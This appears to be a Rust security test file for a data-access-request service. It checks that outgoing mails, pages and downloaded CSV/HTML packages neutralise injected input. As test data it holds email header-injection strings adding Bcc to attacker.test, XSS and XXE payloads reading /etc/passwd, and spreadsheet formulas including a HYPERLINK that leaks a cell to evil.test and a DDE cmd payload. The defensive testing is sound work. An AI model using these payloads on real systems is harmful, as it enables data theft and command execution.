//! Names, subjects and facts that are written to be run: by a mail program, a browser or a spreadsheet.

use std::io::{Cursor, Read as _};

use habeas_test_support::SmtpMail;
use habeas_tests::attack::{Aim, Letter, MALLORY, OURS, Strike, VICTIM};
use reqwest::Method;
use serde_json::json;

/// What is asked for, by whoever wants nothing but to be read.
const ASK: &str = Aim::Access.ask();

for_either_copy!(a_formula_in_the_data_is_text_in_the_package);

/// For a browser, and for whatever reads XML.
const SCRIPT: &str =
    "<script>alert(1)</script><img src=x onerror=alert(1)><!ENTITY e SYSTEM \"file:///etc/passwd\">&e;";

/// Every header of ours, and no other; one recipient, the person.
fn check(mail: &SmtpMail) {
    assert_eq!(mail.to.len(), 1, "one recipient: {:?}", mail.to);
    let read = mail.read().unwrap();
    assert_eq!(read.to, mail.to, "whom the mail names is whom it goes to");
    let head = String::from_utf8_lossy(&mail.data).into_owned();
    let head = head.split("\r\n\r\n").next().unwrap().to_ascii_lowercase();
    for name in ["bcc", "cc", "x-evil", "sender"] {
        assert!(!head.contains(&format!("\r\n{name}:")), "{name} in:\n{head}");
    }
    assert_eq!(head.matches("\r\nsubject:").count() + usize::from(head.starts_with("subject:")), 1, "{head}");
    let html = read.html.to_ascii_lowercase();
    assert!(
        !html.contains("<script") && !html.contains("<img src=x") && !html.contains("onerror=alert(1)>"),
        "{html}"
    );
    assert!(!html.contains("<!entity") && !html.contains("root:"), "{html}");
}

/// Bufalieri et al. 2020 look at how answers are sent. Whatever stands in the sender's name, the subject or the Message-ID, our
/// mails keep their headers and their one recipient.
#[tokio::test(flavor = "multi_thread")]
async fn no_name_and_no_subject_adds_a_header_or_a_recipient() {
    let mut strike = Strike::plan("header injection").await.unwrap();
    let encoded = "=?utf-8?q?Hanako=0D=0ABcc:_evil=40attacker.test=0D=0AX-Evil:_1?=";
    let letters = [
        Letter::from(&format!("{encoded} <{MALLORY}>"), ASK).subject(&format!("{encoded} {SCRIPT}")),
        Letter::from(&format!("\"Mallory\\\r\n Bcc: evil@attacker.test\" <{MALLORY}>"), ASK),
        Letter::from(MALLORY, ASK).message_id("<a@b>\r\n Bcc: evil@attacker.test\r\n X-Evil: 1"),
        Letter::from(MALLORY, ASK).message_id("<\"x\r\nBcc\"@attacker.test>"),
        Letter::from(MALLORY, ASK).header("References: <=?utf-8?q?=0D=0ABcc:_evil=40attacker.test?=@x>"),
    ];
    for letter in &letters {
        strike.attacker.write(&letter.clone().aligned()).unwrap();
    }
    let staff = &strike.target.staff;
    let mut refused = 0;
    for name in ["Hanako\r\nBcc: evil@attacker.test", "Hanako\u{0}", "Hanako\u{2028}X-Evil: 1"] {
        let submission = json!({ "subject": { "email": VICTIM, "name": name }, "rights": ["access"] });
        let (status, body) = staff.call(Method::POST, "/v1/requests", Some(&submission)).await.unwrap();
        refused += usize::from(status == 422 && body.to_string().contains("subject.name"));
    }
    for address in ["hanako@people.test\r\nBcc: evil@attacker.test", "hanako@people.test, evil@attacker.test"]
    {
        let submission = json!({ "subject": { "email": address }, "rights": ["access"] });
        let (status, body) = staff.call(Method::POST, "/v1/requests", Some(&submission)).await.unwrap();
        refused += usize::from(status == 422 && body.to_string().contains("subject.email"));
    }
    strike.tally.attempt(letters.len() + 5);
    strike.tally.tell("what is typed in is refused, naming the field", refused == 5);
    let mails = staff.decided(letters.len()).await.unwrap();
    strike.quiet().await.unwrap();
    let sent = strike.target.sink.mails();
    assert!(!sent.is_empty(), "there is something to look at");
    sent.iter().for_each(check);
    assert!(sent.iter().all(|mail| mail.to == [MALLORY]), "only who wrote is written to");
    strike
        .tally
        .tell("each mail is kept with its reason", mails.iter().all(|mail| mail["reason"].is_string()));
    strike.settle().await.unwrap();
}

/// The same into pages and the bodies of mails.
#[tokio::test(flavor = "multi_thread")]
async fn markup_in_names_and_messages_stays_text() {
    let mut strike = Strike::plan("HTML injection").await.unwrap();
    let submission = json!({
        "subject": { "email": VICTIM, "name": SCRIPT }, "rights": ["access"], "message": format!("{SCRIPT} {{{{ 7*7 }}}}"),
        "external_reference": SCRIPT,
        "agent": { "name": SCRIPT, "email": MALLORY, "organisation": SCRIPT, "mandate": "signed-permission", "reference": SCRIPT },
    });
    let id = strike.target.staff.submit(&submission).await.unwrap();
    strike.tally.attempt(1);
    strike.attacker.confirm().await.unwrap();
    let page = strike.victim.open(&strike.victim.link("/confirm/").await.unwrap()).await.unwrap();
    let after = strike.victim.press(&page, &[]).await.unwrap();
    for page in [&page, &after] {
        let text = page.text().to_ascii_lowercase();
        assert!(
            !text.contains("<script") && !text.contains("<img src=x") && !text.contains("<!entity"),
            "{text}"
        );
        let policy = page.headers.get("content-security-policy").unwrap().to_str().unwrap();
        assert!(policy.contains("default-src 'none'"), "{policy}");
    }
    strike.quiet().await.unwrap();
    strike.target.sink.mails().iter().for_each(check);
    let shown = strike.target.staff.get(&format!("/v1/requests/{id}?reveal=personal")).await.unwrap();
    assert_eq!(shown["person"]["agent"]["name"], SCRIPT, "staff see it as it was typed");
    strike.tally.untold("text is text, whatever it looks like");
    strike.settle().await.unwrap();
}

/// Facts in a store that a spreadsheet would run (CWE-1236), planted by whoever could write a ticket about the victim.
async fn a_formula_in_the_data_is_text_in_the_package(aim: Aim) {
    let mut strike = Strike::plan("formula injection").await.unwrap().aiming_at(aim);
    let planted = "
        INSERT INTO tickets VALUES (11, 1001, '=HYPERLINK(\"http://evil.test/\"&A1)'), (12, 1001, '@SUM(1)'),
          (13, 1001, '+cmd|'' /C calc''!A0'), (14, 1001, char(9) || '=1+1'), (15, 1001, '<script>alert(1)</script>'),
          (16, 1001, '<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>'), (17, 1001, '  ＝1+1'), (18, 1001, char(13) || '-2+3');";
    strike.target.shop.sql(planted).await.unwrap();
    strike.tally.attempt(8);
    strike.begin_again().await.unwrap();
    strike.ask_in_her_name().await.unwrap();
    strike.victim.confirm().await.unwrap();
    let link = strike.victim.link("/package/").await.unwrap();
    let zip = strike.victim.fetch(&link).await.unwrap().body;
    let mut archive = zip::ZipArchive::new(Cursor::new(zip)).unwrap();
    let (mut cells, mut pages, mut entities) = (0, 0, 0);
    for place in 0..archive.len() {
        let mut file = archive.by_index(place).unwrap();
        let (name, mut text) = (file.name().unwrap().into_owned(), String::new());
        file.read_to_string(&mut text).unwrap();
        let ending = name.rsplit('.').next();
        if ending == Some("csv") {
            entities += text.matches("<!ENTITY e SYSTEM").count();
            for formula in ["=HYPERLINK", "@SUM", "+cmd", "\t=1+1", "  ＝1+1", "\r-2+3"] {
                cells += text.matches(&format!("'{formula}")).count();
                let bare =
                    text.split([',', '\n']).filter(|cell| cell.trim_start_matches('"').starts_with(formula));
                assert_eq!(bare.count(), 0, "{formula} in {name}:\n{text}");
            }
        }
        if ending == Some("html") {
            pages += 1;
            assert!(!text.contains("<script>alert") && !text.contains("<!ENTITY"), "{name}");
            assert!(!text.contains("root:"), "{name}: nothing reads what an entity names");
        }
    }
    assert_eq!(cells, 6, "every formula is there, as text");
    assert!(pages > 0, "the package holds a page");
    assert_eq!(entities, 1, "as text, whole");
    let requests = strike.target.staff.requests().await.unwrap();
    let told = !requests[0]["packages"].as_array().unwrap().is_empty();
    assert!(told, "the package stands on the request");
    strike.tally.untold("text is text, whatever it looks like");
    assert!(
        strike
            .target
            .sink
            .mails()
            .iter()
            .all(|mail| mail.from == OURS || mail.from.is_empty() || mail.from.contains('+'))
    );
    strike.settle().await.unwrap();
}
